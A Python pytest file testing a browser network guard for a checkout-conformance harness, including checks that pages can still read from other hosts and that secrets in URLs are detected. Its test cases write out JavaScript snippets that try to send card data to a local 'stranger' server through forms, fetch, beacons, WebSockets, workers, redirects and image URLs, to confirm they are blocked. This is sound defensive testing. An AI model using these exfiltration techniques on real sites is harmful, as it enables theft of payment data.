"""Whatever a page tries, nothing that may change something reaches a host nobody named."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from socket import create_server

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Playwright
from playwright.sync_api import Error as PlaywrightError

from checkout_conformance.redaction.secrets import hide, nothing_hidden
from checkout_conformance.safety.forward_proxy import ForwardProxy, running_forward_proxy
from checkout_conformance.safety.network_guard import NetworkGuard, context_options
from checkout_conformance.safety.read_only_fetcher import contains_secret
from checkout_conformance.targets.safety_error import SafetyError
from tests.support.hostile_sites import HostileSite, hostile_site

CARD = "4111111111111111"
FORM = (
    "<form method=post action='{to}' {more}><input name=card value=4111><button>Pay</button></form>"
)
SUBMIT = "document.forms[0].submit()"
POST = "fetch('{to}', {{method: 'POST', mode: 'no-cors', body: 'card=4111'}}).catch(() => 0)"
PATIENCE_MS = 5_000


@pytest.fixture(scope="module")
def own() -> Iterator[HostileSite]:
    with hostile_site() as site:
        yield site


@pytest.fixture(scope="module")
def stranger() -> Iterator[HostileSite]:
    with hostile_site() as site:
        yield site


@pytest.fixture(scope="module")
def proxy(own: HostileSite) -> Iterator[ForwardProxy]:
    with running_forward_proxy([own.url]) as proxy:
        yield proxy


@pytest.fixture
def guard(
    own: HostileSite, stranger: HostileSite, proxy: ForwardProxy, playwright: Playwright
) -> Iterator[NetworkGuard]:
    for site in (own, stranger):
        site.pages, site.headers = {"/": "<h1>Here</h1>"}, {}
        site.got.clear()
    client = playwright.request.new_context()
    yield NetworkGuard([own.url], proxy, client)
    client.dispose()


@pytest.fixture
def guarded(browser: Browser, proxy: ForwardProxy, guard: NetworkGuard) -> Iterator[BrowserContext]:
    context = browser.new_context(**context_options(proxy))
    guard.watch(context)
    yield context
    context.close()


@pytest.fixture
def tab(guarded: BrowserContext) -> Page:
    return guarded.new_page()


def wait_until_refused(tab: Page, guard: NetworkGuard) -> str:
    """The message of the guard, once it has one."""
    for _ in range(PATIENCE_MS // 20):
        if guard.refused:
            break
        tab.wait_for_timeout(20)
    with pytest.raises(SafetyError) as error:
        guard.check()
    return str(error.value)


Attempt = Callable[[HostileSite, HostileSite], str]
# By what is tried: the script of a page of our own, which may put more pages there first.
ATTEMPTS: dict[str, Attempt] = {}


def attempt(function: Attempt) -> Attempt:
    ATTEMPTS[function.__name__] = function
    return function


# Those that Chromium itself gives up at the proxy: nobody hears of it.
QUIET_ATTEMPTS: dict[str, Attempt] = {}


def quiet_attempt(function: Attempt) -> Attempt:
    QUIET_ATTEMPTS[function.__name__] = function
    return function


def to_stranger(own: HostileSite, stranger: HostileSite, *statuses: int) -> str:
    """A path of ours that leads the browser to the stranger, by redirects of those statuses."""
    paths = [f"/{status}/{number}" for number, status in enumerate(statuses)]
    for path, following in zip(paths, [*paths[1:], None], strict=True):
        own.pages[path] = (own.url + following) if following else f"{stranger.url}/pay"
    return paths[0]


@attempt
def a_form(own: HostileSite, stranger: HostileSite) -> str:
    own.pages["/"] = FORM.format(to=f"{stranger.url}/pay", more="")
    return SUBMIT


@attempt
def a_form_in_a_new_tab(own: HostileSite, stranger: HostileSite) -> str:
    own.pages["/"] = FORM.format(to=f"{stranger.url}/pay", more="target=_blank")
    return SUBMIT


@attempt
def a_form_of_a_popup(own: HostileSite, stranger: HostileSite) -> str:
    form = FORM.format(to=f"{stranger.url}/pay", more="")
    own.pages["/popup"] = f"{form}<script>{SUBMIT}</script>"
    return "window.open('/popup')"


@attempt
def a_form_of_a_frame(own: HostileSite, stranger: HostileSite) -> str:
    form = FORM.format(to=f"{stranger.url}/pay", more="")
    own.pages["/frame"] = f"{form}<script>{SUBMIT}</script>"
    own.pages["/"] = "<iframe src=/frame></iframe>"
    return "0"


@attempt
def a_form_of_the_strangers_own_page(own: HostileSite, stranger: HostileSite) -> str:
    form = FORM.format(to="/pay", more="")
    stranger.pages["/"] = f"{form}<script>{SUBMIT}</script>"
    own.pages["/"] = f"<iframe src={stranger.url}/></iframe>"
    return "0"


@attempt
def a_form_answered_with_307(own: HostileSite, stranger: HostileSite) -> str:
    own.pages["/"] = FORM.format(to=to_stranger(own, stranger, 307), more="")
    return SUBMIT


@attempt
def a_form_answered_with_308(own: HostileSite, stranger: HostileSite) -> str:
    own.pages["/"] = FORM.format(to=to_stranger(own, stranger, 308), more="")
    return SUBMIT


@attempt
def a_chain_of_redirects(own: HostileSite, stranger: HostileSite) -> str:
    own.pages["/"] = FORM.format(to=to_stranger(own, stranger, 307, 308, 307), more="")
    return SUBMIT


@attempt
def a_fetch(own: HostileSite, stranger: HostileSite) -> str:
    return POST.format(to=f"{stranger.url}/pay")


@attempt
def a_fetch_answered_with_307(own: HostileSite, stranger: HostileSite) -> str:
    return POST.format(to=to_stranger(own, stranger, 307))


@attempt
def a_fetch_answered_with_308(own: HostileSite, stranger: HostileSite) -> str:
    return POST.format(to=to_stranger(own, stranger, 308))


@attempt
def a_fetch_that_outlives_its_page(own: HostileSite, stranger: HostileSite) -> str:
    to = to_stranger(own, stranger, 307)
    return f"fetch('{to}', {{method: 'POST', keepalive: true, body: 'x'}}); location = '/gone'"


@attempt
def a_request_of_the_old_kind(own: HostileSite, stranger: HostileSite) -> str:
    return f"x = new XMLHttpRequest(); x.open('PUT', '{stranger.url}/pay'); x.send('card=4111')"


@attempt
def a_beacon(own: HostileSite, stranger: HostileSite) -> str:
    return f"navigator.sendBeacon('{stranger.url}/pay', 'card=4111')"


@quiet_attempt
def a_beacon_answered_with_307(own: HostileSite, stranger: HostileSite) -> str:
    return f"navigator.sendBeacon('{to_stranger(own, stranger, 307)}', 'card=4111')"


@attempt
def a_report_of_the_browser(own: HostileSite, stranger: HostileSite) -> str:
    own.headers = {"Content-Security-Policy": f"img-src 'none'; report-uri {stranger.url}/report"}
    return "document.body.append(Object.assign(new Image(), {src: '/x.png'}))"


@attempt
def a_worker(own: HostileSite, stranger: HostileSite) -> str:
    own.pages["/worker.js"] = POST.format(to=f"{stranger.url}/pay")
    return "new Worker('/worker.js')"


@attempt
def a_shared_worker(own: HostileSite, stranger: HostileSite) -> str:
    own.pages["/worker.js"] = POST.format(to=f"{stranger.url}/pay")
    return "new SharedWorker('/worker.js')"


@attempt
def a_shared_worker_answered_with_307(own: HostileSite, stranger: HostileSite) -> str:
    own.pages["/worker.js"] = POST.format(to=own.url + to_stranger(own, stranger, 307))
    return "new SharedWorker('/worker.js')"


@attempt
def a_web_socket(own: HostileSite, stranger: HostileSite) -> str:
    return f"new WebSocket('{stranger.url.replace('http', 'ws')}/pay')"


@attempt
def a_web_socket_of_a_worker(own: HostileSite, stranger: HostileSite) -> str:
    own.pages["/worker.js"] = f"new WebSocket('{stranger.url.replace('http', 'ws')}/pay')"
    return "new Worker('/worker.js')"


@attempt
def a_web_socket_of_a_shared_worker(own: HostileSite, stranger: HostileSite) -> str:
    own.pages["/worker.js"] = f"new WebSocket('{stranger.url.replace('http', 'ws')}/pay')"
    return "new SharedWorker('/worker.js')"


@attempt
def a_post_to_another_port_of_the_same_host(own: HostileSite, stranger: HostileSite) -> str:
    return POST.format(to="http://127.0.0.1:49999/")


@attempt
def an_address_with_a_card_number(own: HostileSite, stranger: HostileSite) -> str:
    return f"document.body.append(Object.assign(new Image(), {{src: '{stranger.url}/?c={CARD}'}}))"


@pytest.mark.parametrize("name", ATTEMPTS)
def test_no_change_is_sent_to_another_host(
    name: str, own: HostileSite, stranger: HostileSite, guard: NetworkGuard, tab: Page
) -> None:
    script = ATTEMPTS[name](own, stranger)
    tab.goto(own.url)
    tab.evaluate(f"() => {{ {script} }}")
    message = wait_until_refused(tab, guard)
    assert "a page wanted to send" in message
    assert "127.0.0.1" in message
    assert "It was not sent" in message
    assert CARD not in message
    assert stranger.changes == []
    # Frames read the stranger's page by the harness; nothing else was asked of it.
    assert set(stranger.got) <= {"GET /"}


@pytest.mark.parametrize("name", QUIET_ATTEMPTS)
def test_no_change_is_sent_to_another_host_even_if_the_guard_cannot_see_it(
    name: str, own: HostileSite, stranger: HostileSite, guard: NetworkGuard, tab: Page
) -> None:
    script = QUIET_ATTEMPTS[name](own, stranger)
    tab.goto(own.url)
    tab.evaluate(f"() => {{ {script} }}")
    for _ in range(PATIENCE_MS // 20):
        if len(own.got) > 1:
            break
        tab.wait_for_timeout(20)
    # Unguarded, it would be there in no time.
    tab.wait_for_timeout(100)
    assert own.got[1].partition(" ")[2].startswith("/30")
    assert stranger.got == []


def test_a_service_worker_is_not_there(
    own: HostileSite, stranger: HostileSite, guard: NetworkGuard, tab: Page
) -> None:
    own.pages["/worker.js"] = POST.format(to=f"{stranger.url}/pay")
    tab.goto(own.url)
    tab.evaluate("() => void navigator.serviceWorker.register('/worker.js').catch(() => 0)")
    tab.evaluate("() => fetch('/')")
    assert (
        tab.evaluate("async () => (await navigator.serviceWorker.getRegistrations()).length") == 0
    )
    assert stranger.got == []


@pytest.mark.parametrize("name", ["RTCPeerConnection", "WebTransport"])
def test_there_is_no_way_past_a_proxy(
    name: str, own: HostileSite, guard: NetworkGuard, tab: Page
) -> None:
    tab.goto(own.url)
    assert tab.evaluate(f"() => typeof {name}") == "undefined"


def test_a_site_of_the_target_behaves_as_ever(
    own: HostileSite, guard: NetworkGuard, tab: Page
) -> None:
    own.pages["/"] = FORM.format(to="/303/pay", more="")
    own.pages["/303/pay"] = f"{own.url}/paid"
    own.pages["/paid"] = "<h1>Paid</h1>"
    tab.goto(own.url)
    with tab.expect_navigation(url="**/paid"):
        tab.get_by_role("button").click()
    assert tab.get_by_role("heading").inner_text() == "Paid"
    assert {one["name"]: one["value"] for one in tab.context.cookies()} == {"one": "1", "two": "2"}
    guard.check()
    assert own.changes == ["POST /303/pay"]


def test_an_unreachable_site_of_the_target_is_reported(browser: Browser) -> None:
    with create_server(("127.0.0.1", 0)) as closed_soon:
        away = f"http://127.0.0.1:{closed_soon.getsockname()[1]}/"
    with running_forward_proxy([away]) as proxy:
        context = browser.new_context(**context_options(proxy))
        with pytest.raises(PlaywrightError, match=r"ERR_EMPTY_RESPONSE at http://127"):
            context.new_page().goto(away)
        context.close()


def test_pages_can_read_from_other_hosts(
    own: HostileSite, stranger: HostileSite, guard: NetworkGuard, tab: Page
) -> None:
    stranger.pages["/shown.js"] = "document.title = 'shown'"
    stranger.pages["/302/shown.js"] = f"{stranger.url}/shown.js"
    own.pages["/"] = f"<script src={stranger.url}/302/shown.js></script><h1>Here</h1>"
    tab.goto(own.url)
    assert tab.title() == "shown"
    guard.check()
    assert stranger.got == ["GET /302/shown.js", "GET /shown.js"]


def test_a_download_is_read_by_the_harness(
    own: HostileSite, stranger: HostileSite, guard: NetworkGuard, tab: Page, proxy: ForwardProxy
) -> None:
    own.pages["/"] = f"<a download href={to_stranger(own, stranger, 302)}>Receipt</a>"
    stranger.pages["/pay"] = "a receipt"
    tab.goto(own.url)
    before = len(proxy.blocked)
    with tab.expect_event("request", lambda request: request.url == f"{stranger.url}/pay"):
        tab.get_by_role("link").click()
    guard.check()
    assert stranger.changes == []
    assert proxy.blocked[before:] == []


def test_a_link_leads_to_another_host(
    own: HostileSite, stranger: HostileSite, guard: NetworkGuard, tab: Page
) -> None:
    own.pages["/"] = f"<a href={stranger.url}/>Go</a>"
    tab.goto(own.url)
    tab.get_by_role("link").click()
    assert tab.get_by_role("heading").inner_text() == "Here"
    guard.check()


@pytest.mark.parametrize(
    ("address", "secret"),
    [
        ("https://cdn.example/app.js?v=12345678&t=1700000000003", False),
        ("https://cdn.example/a/0123456789abcdef/x.png", False),
        (f"https://cdn.example/?c={CARD}", True),
        ("https://cdn.example/?c=4111+1111+1111+1111", True),
        ("https://cdn.example/?c=4111-1111-1111-1111", True),
        ("https://cdn.example/?u=https%3A%2F%2Fx%2F%3Fc%3D4111%25201111%25201111%25201111", True),
        ("https://cdn.example/hush-42-door/x", True),
        ("https://cdn.example/?password=hush-42-door", True),
        ("https://cdn.example/?u=https://x.example/?a=b", False),
    ],
)
def test_secrets_in_an_address_are_seen(address: str, secret: bool) -> None:
    # What other tests have hidden in this process may be a piece of an address.
    with nothing_hidden():
        hide("hush-42-door")
        hide(CARD)
        assert contains_secret(address) is secret
